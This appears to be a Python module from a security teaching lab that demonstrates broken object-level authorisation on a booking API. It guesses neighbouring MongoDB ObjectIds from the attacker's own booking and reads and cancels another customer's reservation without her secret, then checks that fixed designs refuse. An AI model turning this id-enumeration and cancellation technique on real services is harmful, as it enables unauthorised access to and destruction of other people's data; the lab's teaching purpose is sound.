"""Broken object-level authorisation (OWASP API1; issue 28.1), shown from a customer's seat:
from one's own booking, find the neighbours' reservations and cancel another customer's.

The seed's ids are ObjectIds: 4 bytes of time, 5 bytes fixed per process, 3 bytes of a
counter. Two bookings a moment apart, served by the same `reservas` process, differ only in
the last bytes: `neighbour_ids` lists them, and on the seed's open API a plain GET finds the
other customer's reservation and a plain DELETE cancels it. The fixed designs answer 404 to
every one of those requests: their ids share nothing guessable, and even an id known for sure
(the listing by email gives it) reads and cancels nothing without the booking's secret.

`attempt` is the whole story, run on the lab's current design; lesson 03 calls it.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from bson import ObjectId

from boletia import config
from boletia.lab.notebook.client import Answer, Boletia


def neighbour_ids(reserva_id: str, steps: int = 3, seconds: int = 10) -> list[str]:
    """The ids a seed ObjectId's neighbours have: the same process part, the counter up to
    `steps` away, made up to `seconds` before (or in the same second); never `reserva_id`."""
    raw = ObjectId(reserva_id).binary
    stamp, process, counter = (int.from_bytes(raw[:4], "big"), raw[4:9],
                               int.from_bytes(raw[9:], "big"))
    out = []
    for dt in range(0, -seconds - 1, -1):
        for dc in sorted(range(-steps, steps + 1), key=abs):
            if dt == 0 and dc == 0:
                continue
            out.append(str(ObjectId((stamp + dt).to_bytes(4, "big") + process
                                    + ((counter + dc) % 2**24).to_bytes(3, "big"))))
    return out


@dataclass
class Attempt:
    """What a stranger could do to another customer's booking, on one design."""

    design: str
    tried: int                      # neighbouring ids asked for, from the stranger's own booking
    found: list[dict]               # the reservations of others those GETs answered
    victim_found: bool              # the victim's among them
    read_by_id: int                 # GET of the victim's id (known from the listing), no secret
    cancel_by_id: int               # DELETE of the victim's id, no secret
    victim_state: str               # the victim's reservation afterwards, read with HER secret
    victim_listing_has_secret: bool  # the listing by email hands out a secret (it must not)
    answers: list[Answer] = field(default_factory=list, repr=False)

    def summary(self) -> str:
        """The same lines every run (no ids, no times): a lesson compares them."""
        return "\n".join([
            f"design {self.design}: {self.tried} neighbouring ids tried from my own booking; "
            f"her reservation among them: {'yes' if self.victim_found else 'no'}",
            f"with her id (the listing by email gives it), without her secret: GET -> "
            f"{self.read_by_id}, DELETE -> {self.cancel_by_id}",
            f"her reservation afterwards: {self.victim_state}"
            + (" (cancelled by a stranger)" if self.victim_state == "X" else " (untouched)"),
        ])


def attempt(evento: str, victim_email: str, stranger_email: str,
            settings: config.Settings | None = None, design: str = "", steps: int = 3,
            timeout: float = 60.0) -> Attempt:
    """The victim books, then the stranger books, and from the stranger's own booking tries
    the neighbours' ids (GET), then the victim's id from the listing by email (GET, DELETE),
    always without the victim's secret. `design` names the lab's design in the summary (the
    runtime's `rt.design()`; default: the settings'). Each party is its own client that keeps no secret
    but the ones it is given, as two customers on two machines."""
    s = settings or config.settings()
    victim = Boletia(settings=s, keeps_secrets=False)
    stranger = Boletia(settings=s, keeps_secrets=False)
    # one after the other, each reservation written before the next booking: two bookings in
    # quick succession are the seed's failure mode 3 (both messages carry the second one)
    hers = victim.book(evento, 1, victim_email)
    if not hers.ok:
        raise RuntimeError(f"her booking was not made: {hers.status} {hers.body}")
    her_id = hers.body["Id"]
    victim.wait_reservation(her_id, timeout=timeout, secret=hers.secret)
    mine = stranger.book(evento, 1, stranger_email)
    if not mine.ok:
        raise RuntimeError(f"the stranger's booking was not made: {mine.status} {mine.body}")
    my_id = mine.body["Id"]
    stranger.wait_reservation(my_id, timeout=timeout, secret=mine.secret)

    candidates = neighbour_ids(my_id, steps=steps)
    answers = [stranger.reservation(c) for c in candidates]
    found = [a.body for a in answers if a.ok and isinstance(a.body, dict)]
    listing = stranger.reservations(evento, victim_email)
    listed = [r for r in listing.body if r.get("Id") == her_id] if listing.ok else []
    leaked = bool(listed) and any(k not in ("Id", "Evento", "Estado", "Email", "Cantidad")
                                  for r in listed for k in r)
    read = stranger.reservation(her_id)
    cancel = stranger.cancel(her_id)
    if cancel.ok:
        victim.wait_reservation(her_id, "X", timeout=timeout, secret=hers.secret)
    after = victim.reservation(her_id, hers.secret)
    return Attempt(design=design or s.design,
                   tried=len(candidates), found=found,
                   victim_found=any(f.get("Id") == her_id for f in found),
                   read_by_id=read.status, cancel_by_id=cancel.status,
                   victim_state=after.body.get("Estado", "?") if after.ok else f"{after.status}",
                   victim_listing_has_secret=leaked, answers=[*answers, read, cancel, after])
